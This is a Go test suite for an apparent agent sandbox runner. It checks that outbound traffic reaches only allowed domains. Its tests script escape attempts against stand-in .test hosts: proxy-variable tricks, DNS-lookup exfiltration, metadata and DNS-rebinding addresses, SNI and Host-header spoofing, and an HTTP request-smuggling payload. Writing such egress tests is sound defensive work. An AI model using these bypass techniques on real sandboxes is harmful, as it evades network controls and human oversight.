package runner_test

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/yolo-run/yolo-run/reports"
	"github.com/yolo-run/yolo-run/runner"
)

// online lets a run use the test's internet: its network, its resolver, and allowed.test.
func online(n internet, allowed ...string) func(*runner.Config) {
	return func(cfg *runner.Config) {
		cfg.Network = n.network
		cfg.DNS = []string{internetAddr}
		cfg.AllowedDomains = allowed
	}
}

func withCA(path string) func(*runner.Config) {
	return func(cfg *runner.Config) { cfg.CAFile = path }
}

// deniedName matches denials of one name at one layer.
func deniedName(layer reports.Layer, name string) func(reports.Event) bool {
	return func(e reports.Event) bool { return e.Layer == layer && e.Name == name }
}

func total(events []reports.Event) (n int64) {
	for _, e := range events {
		n += e.Count
	}
	return n
}

// getter is a command that gets a URL: its exit code is 0 when it was answered.
type getter struct{ name, command string }

// getters are programs that differ in what looks names up, speaks TLS and heeds variables of proxies.
func getters() []getter {
	const proxies = `env https_proxy=http://denied.test:80 http_proxy=http://denied.test:80 `
	return []getter{
		{"curl", `curl -sSf -m 5 -o /dev/null %s`},
		{"curl-noproxy", `env NO_PROXY='*' no_proxy='*' curl -sSf -m 5 -o /dev/null %s`},
		{"curl-proxy", proxies + `NO_PROXY=allowed.test curl -sSf -m 5 -o /dev/null %s`},
		{"wget", `wget -q -t 1 -T 5 --ca-certificate=$SSL_CERT_FILE -O /dev/null %s`},
		{"wget-proxy", proxies + `no_proxy=allowed.test wget -q -t 1 -T 5 --ca-certificate=$SSL_CERT_FILE -O /dev/null %s`},
		{"python", `python3 -c "import urllib.request as u; u.urlopen('%s', timeout=5).read()"`},
		{"go", `/workspace/fetch %s`},
		{"node", `node -e "fetch('%s').then(r => r.text()).catch(e => process.exit(7))"`},
	}
}

// Attack 1: the verdict does not depend on the client, on proxy variables or on NO_PROXY.
func TestAttack1EveryClientGetsTheSameVerdict(t *testing.T) {
	t.Parallel()
	n := needInternet(t)
	var script strings.Builder
	var urls, names []string
	for _, scheme := range []string{"http", "https"} {
		for _, host := range []string{"allowed.test", "denied.test"} {
			urls = append(urls, scheme+"://"+host+"/java")
			for _, c := range getters() {
				fmt.Fprintf(&script, c.command+" >/dev/null 2>&1; echo %s-%s-%s=$?\n", scheme+"://"+host+"/"+c.name, c.name, scheme, host)
			}
		}
	}
	for _, c := range getters() {
		names = append(names, c.name)
	}
	// Java takes seconds to start, so that it gets all of them at once; its proxies are not in the environment.
	const proxies = `-Dhttp.proxyHost=denied.test -Dhttps.proxyHost=denied.test -Dhttp.proxyPort=80 -Dhttps.proxyPort=80 -Dhttp.nonProxyHosts=allowed.test`
	for name, options := range map[string]string{"java": "", "java-proxy": proxies} {
		fmt.Fprintf(&script, "java -XX:TieredStopAtLevel=1 %s /workspace/Fetch.java %s %s 2>/dev/null\n", options, name, strings.Join(urls, " "))
		names = append(names, name, name+"-url")
	}
	dir := t.TempDir()
	buildGoClient(t, filepath.Join(dir, "fetch"))
	if err := os.WriteFile(filepath.Join(dir, "Fetch.java"), readFile(t, "testdata/Fetch.java"), 0o600); err != nil {
		t.Fatal(err)
	}
	r := try(t, script.String(), online(n, "allowed.test"), withCA(n.caFile(t)), func(cfg *runner.Config) {
		cfg.Workspace, cfg.Image = dir, "yolo-run/test-clients:"+version()
	})
	r.want(t, reports.NoChanges)
	for _, scheme := range []string{"http", "https"} {
		for _, name := range names {
			if got := r.says(t, name+"-"+scheme+"-allowed.test"); got != "0" {
				t.Errorf("%s over %s to an allowed name: exit code %s, want 0", name, scheme, got)
			}
			if got := r.says(t, name+"-"+scheme+"-denied.test"); got == "0" {
				t.Errorf("%s over %s reached a denied name", name, scheme)
			}
		}
	}
	if reached := n.seen(t, "http denied.test"); len(reached) > 0 {
		t.Errorf("the denied name was reached: %q", reached)
	}
	denied := r.find(reports.Deny, deniedName(reports.LayerDNS, "denied.test"))
	if got := total(denied); got < int64(len(names)) {
		t.Errorf("%d denied lookups of denied.test are on record, want at least one for each client", got)
	}
	for _, exe := range []string{"/curl", "/wget", "/python3", "/fetch", "/node", "/java"} {
		if !slices.ContainsFunc(denied, func(e reports.Event) bool { return e.Process != nil && strings.Contains(e.Process.Exe, exe) }) {
			t.Errorf("no denied lookup of denied.test is on record as one of %s", exe)
		}
	}
	if allowed := r.find(reports.Allow, deniedName(reports.LayerTLS, "allowed.test")); len(allowed) == 0 || allowed[0].BytesIn == 0 {
		t.Errorf("allowed TLS connections are not on record: %+v", allowed)
	}
}

// buildGoClient builds a program that gets one URL: Go has a resolver and a TLS of its own, and no C library.
func buildGoClient(t *testing.T, path string) {
	t.Helper()
	source := filepath.Join(t.TempDir(), "main.go")
	err := os.WriteFile(source, []byte(`package main

import ("io"; "net/http"; "os")

func main() {
	res, err := http.Get(os.Args[1])
	if err == nil { _, err = io.Copy(io.Discard, res.Body) }
	if err != nil { os.Exit(1) }
}
`), 0o600)
	if err != nil {
		t.Fatal(err)
	}
	build := exec.CommandContext(t.Context(), "go", "build", "-o", path, source)
	build.Env = append(os.Environ(), "CGO_ENABLED=0")
	if out, err := build.CombinedOutput(); err != nil {
		t.Fatalf("build: %v\n%s", err, out)
	}
}

// Attacks 3 and 4: a lookup is no way out, and a refused connection has caused none.
func TestAttack3DeniedNamesAreNeverLookedUp(t *testing.T) {
	t.Parallel()
	n := needInternet(t)
	r := try(t, `
for i in $(seq 20); do getent hosts leak$i.exit.test; dig +short +tries=1 +time=1 leak$i.exit.test TXT >/dev/null; done
curl -m 5 -s https://secret.exit.test/; echo attacker=$?
curl -m 5 -s http://allowed.test/ >/dev/null; echo control=$?
`, online(n, "allowed.test"))
	r.want(t, reports.NoChanges)
	if got := n.seen(t, "exit.test"); len(got) > 0 {
		t.Errorf("lookups of denied names left: %q", got)
	}
	if got := n.seen(t, "dns allowed.test"); len(got) == 0 {
		t.Error("control: the lookup of the allowed name did not reach the resolver, so this test would see nothing")
	}
	if r.says(t, "attacker") == "0" || r.says(t, "control") != "0" {
		t.Error("the denied name was reached, or the allowed one was not")
	}
	for i := 1; i <= 20; i++ {
		name := fmt.Sprintf("leak%d.exit.test", i)
		if len(r.find(reports.Deny, deniedName(reports.LayerDNS, name))) == 0 {
			t.Errorf("the lookup of %s is not on record", name)
		}
	}
	if p := r.find(reports.Deny, deniedName(reports.LayerDNS, "secret.exit.test")); len(p) == 0 || p[0].Process == nil || !strings.HasSuffix(p[0].Process.Exe, "/curl") {
		t.Errorf("the denied lookup does not name curl: %+v", p)
	}
}

// Attack 7: an allowed name that leads to a special address.
func TestAttack7SpecialAddressesOfAllowedNamesAreRefused(t *testing.T) {
	t.Parallel()
	n := needInternet(t)
	names := []string{"loopback.test", "private.test", "metadata.test", "zero.test", "synthetic.test", "shared.test"}
	script := "python3 -m http.server 80 --bind 127.0.0.1 >/dev/null 2>&1 &\n"
	for _, name := range names {
		script += fmt.Sprintf("curl -sf -m 5 -o /dev/null http://%s/; echo %s=$?\n", name, name)
	}
	script += "for i in 1 2 3 4 5 6; do curl -s -m 5 http://rebind.test/; done\n"
	script += "curl -sf -m 5 -o /dev/null http://allowed.test/; echo control=$?\n"
	r := try(t, script, online(n, append(names, "allowed.test", "rebind.test")...))
	r.want(t, reports.NoChanges)
	for _, name := range names {
		if r.says(t, name) == "0" {
			t.Errorf("%s was connected", name)
		}
		denied := r.find(reports.Deny, func(e reports.Event) bool { return e.Name == name && e.Port == 80 })
		if len(denied) == 0 || denied[0].Reason == "" {
			t.Errorf("the connection to %s is not on record with its reason: %+v", name, denied)
		}
	}
	if r.says(t, "control") != "0" {
		t.Error("control: the allowed name with a public address was not reached")
	}
	if strings.Contains(r.agent, "Directory listing") {
		t.Error("a name that changed its address to loopback was connected to the agent's own server")
	}
}

// Attack 9: the right address with something else than what was allowed.
func TestAttack9OnlyTheNamePassesOverItsConnection(t *testing.T) {
	t.Parallel()
	n := needInternet(t)
	r := try(t, `
curl -sf -m 5 -o /dev/null https://allowed.test/; echo control-tls=$?
curl -sf -m 5 -o /dev/null http://allowed.test/; echo control-http=$?
curl -sk -m 5 -o /dev/null --connect-to other.test:443:allowed.test:443 https://other.test/; echo other-sni=$?
curl -s -m 5 -o /tmp/body -w 'other-host=%{http_code}\n' -H 'Host: other.test' http://allowed.test/
grep -c other.test /tmp/body | sed 's/^/names-host=/'
python3 - <<'PY'
import socket, ssl, sys
def say(name, ok): print(f"{name}={'open' if ok else 'closed'}", flush=True)
def talk(port, data, tls=None, want=1):
    try:
        s = socket.create_connection(("allowed.test", port), timeout=5)
        if tls is not None: s = tls(s)
        s.settimeout(5)
        s.sendall(data)
        got = b""
        while True:
            d = s.recv(65536)
            if not d: break
            got += d
        return got
    except OSError: return b""
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
get = b"GET /%s HTTP/1.1\r\nHost: %s\r\nConnection: %s\r\n\r\n"
say("no-sni", talk(443, get % (b"nosni", b"allowed.test", b"close"), lambda s: ctx.wrap_socket(s)))
say("plain-443", talk(443, get % (b"plain443", b"allowed.test", b"close")))
say("ssh-443", talk(443, b"SSH-2.0-x\r\n"))
say("raw-80", b"SECRETRAW" in talk(80, b"SECRETRAW\r\n\r\n"))
two = talk(80, get % (b"first", b"allowed.test", b"keep-alive") + get % (b"second", b"other.test", b"close"))
say("second-host", b"hello from other.test" in two)
say("first-host", b"hello from allowed.test" in two)
talk(80, b"POST /smuggle HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 60\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: other.test\r\n\r\n")
PY
curl -s -m 5 -o /dev/null -w 'redirect=%{http_code}\n' -L http://allowed.test/redirect/other.test
nc -w 3 allowed.test 8080 </dev/null; echo port-8080=$?
`, online(n, "allowed.test"), withCA(n.caFile(t)))
	r.want(t, reports.NoChanges)
	for name, want := range map[string]string{
		"control-tls": "0", "control-http": "0", "other-host": "403", "no-sni": "closed", "plain-443": "closed",
		"ssh-443": "closed", "raw-80": "closed", "second-host": "closed", "first-host": "open",
	} {
		if got := r.says(t, name); got != want {
			t.Errorf("%s: %s, want %s", name, got, want)
		}
	}
	if r.says(t, "other-sni") == "0" {
		t.Error("another server name passed")
	}
	if r.says(t, "names-host") == "0" {
		t.Error("the 403 does not name what was denied")
	}
	for _, leak := range []string{"http other.test", "tls other.test", "nosni", "plain443", "smuggle", "SECRETRAW"} {
		if got := n.seen(t, leak); len(got) > 0 {
			t.Errorf("%s left: %q", leak, got)
		}
	}
	for _, layer := range []reports.Layer{reports.LayerTLS, reports.LayerHTTP, reports.LayerTCP} {
		if len(r.find(reports.Deny, func(e reports.Event) bool { return e.Layer == layer })) == 0 {
			t.Errorf("no denial at layer %s is on record", layer)
		}
	}
}
